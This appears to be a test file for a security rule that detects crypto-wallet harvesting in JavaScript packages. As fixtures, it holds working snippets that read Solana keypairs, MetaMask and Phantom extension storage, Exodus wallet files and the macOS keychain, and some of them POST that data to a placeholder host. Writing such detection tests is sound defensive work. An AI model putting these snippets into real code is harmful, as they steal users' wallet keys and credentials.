import { RuleTester } from '../../src/rule-tester/index.ts'
import rule from '../../rules/wallet-harvesting.ts'

new RuleTester().run(rule, {
  valid: [
    // dApp connector: extension ids in install links, no file system
    "export const W = { metamask: 'https://chromewebstore.google.com/detail/nkbihfbeogaeaoehlefnkodbefgpgknn', phantom: 'https://chromewebstore.google.com/detail/bfnaelmomeimhlpmgjnjophhpkkoljpa' }; export const has = () => !!window.ethereum",
    "const fs = require('fs'); fs.readFileSync('./wallet-config.json')",
  ],
  invalid: [
    {
      name: 'Solana keypair alone is medium',
      code: "const fs = require('fs'); const os = require('os'); const path = require('path'); const k = JSON.parse(fs.readFileSync(path.join(os.homedir(), '.config', 'solana', 'id.json')))",
      errors: [{ severity: 'medium' }],
    },
    {
      name: 'Solana keypair bytes sent',
      code: "const fs = require('fs'); const os = require('os'); const k = fs.readFileSync(os.homedir() + '/.config/solana/id.json', 'utf8'); fetch('https://x.invalid/k', { method: 'POST', body: k })",
      errors: [{ severity: 'critical', message: 'read and sent' }],
    },
    {
      name: 'extension storage swept in a loop, with network in another file',
      code: "const fs = require('fs'); const os = require('os'); const ids = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa']; const out = []; for (const id of ids) { const d = os.homedir() + '/Library/Application Support/Google/Chrome/Default/Local Extension Settings/' + id; if (fs.existsSync(d)) out.push(...fs.readdirSync(d)) } module.exports = out",
      files: { 'send.js': "require('https').request('https://x.invalid/u', { method: 'POST' }).end(JSON.stringify(require('./index.js')))" },
      errors: [{ severity: 'critical', message: 'MetaMask' }],
    },
    {
      name: 'Exodus wallet without network is high',
      code: "const fs = require('fs'); const os = require('os'); const path = require('path'); module.exports = fs.readdirSync(path.join(os.homedir(), 'AppData', 'Roaming', 'Exodus', 'exodus.wallet'))",
      errors: [{ severity: 'high', message: 'Exodus' }],
    },
    {
      name: 'macOS keychain',
      code: "const fs = require('fs'); module.exports = fs.readFileSync(process.env.HOME + '/Library/Keychains/login.keychain-db')",
      errors: [{ severity: 'high', message: 'keychain' }],
    },
  ],
})
